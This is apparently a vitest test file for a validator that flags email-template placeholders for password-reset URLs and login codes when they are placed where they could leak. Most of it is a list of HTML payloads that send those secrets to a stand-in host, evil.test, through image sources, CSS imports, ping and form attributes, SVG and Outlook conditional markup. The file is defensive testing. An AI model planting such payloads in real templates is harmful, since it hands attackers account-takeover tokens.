import { describe, expect, it } from 'vitest'
import { emailTemplateNames } from '#contracts/email-templates'
import { defaultTemplates } from './default-templates.ts'
import { misplacedPlaceholders } from './opening-placeholders.ts'

describe('what gives access to an account', () => {
  it.each([
    '<p>{{RESET_URL}}</p>',
    '<p><a href="{{RESET_URL}}">Open</a> <a href=\' {{ RESET_URL }} \'>{{RESET_URL}}</a></p>',
    '<A HREF={{RESET_URL}}>Open</A>',
    '<p class="code">{{CODE}}</p>',
    '<img src="https://acme.test/logo.png"> {{CODE}}',
    '<!doctype html><html><head><style>p{}</style></head><body>{{CODE}}</body></html>',
    '<p>{{USER_EMAIL}} <img src="https://acme.test/?{{DOMAIN}}"></p>',
  ])('stands well in %s', (html) => {
    expect(misplacedPlaceholders(html)).toEqual([])
  })

  it.each([
    '<img src="https://evil.test/?{{RESET_URL}}">',
    '<img src="{{RESET_URL}}">',
    '<a href="https://evil.test/#{{RESET_URL}}">x</a>',
    '<a href="{{RESET_URL}}&x">x</a>',
    '<a href="x" ping="https://evil.test/{{RESET_URL}}">x</a>',
    '<base href="{{RESET_URL}}">',
    '<link rel="stylesheet" href="{{RESET_URL}}">',
    '<p style="background: url(https://evil.test/{{RESET_URL}})">x</p>',
    '<style>@import "https://evil.test/{{ RESET_URL }}";</style>',
    '<table background="https://evil.test/{{RESET_URL}}"></table>',
    '<img src="https://evil.test/? <p>{{RESET_URL}}</p>">',
    "<img src='https://evil.test/?{{\nRESET_URL\n}}",
    '<img srcset="https://evil.test/{{RESET_URL}} 2x">',
    '<!--[if mso]><v:fill src="https://evil.test/{{RESET_URL}}"/><![endif]-->',
    '<form action="https://evil.test"><textarea name="x">{{RESET_URL}}</textarea></form>',
    '<svg><image href="https://evil.test/{{RESET_URL}}"/></svg>',
    '<svg><a href="{{RESET_URL}}">x</a></svg>',
    '<p {{RESET_URL}}>x</p>',
    '<p{{RESET_URL}}>x</p>',
    '<a href="{{RESET_URL}}">good</a><img src="https://evil.test/{{RESET_URL}}">',
    '<title>{{RESET_URL}}</title>',
  ])('does not stand in %s (D53)', (html) => {
    expect(misplacedPlaceholders(html)).toEqual(['RESET_URL'])
    expect(misplacedPlaceholders(html.replaceAll('RESET_URL', 'CODE'))).toEqual(['CODE'])
  })

  it('stands well in every built-in text', () => {
    for (const name of emailTemplateNames) expect(misplacedPlaceholders(defaultTemplates[name].htmlContent)).toEqual([])
  })
})
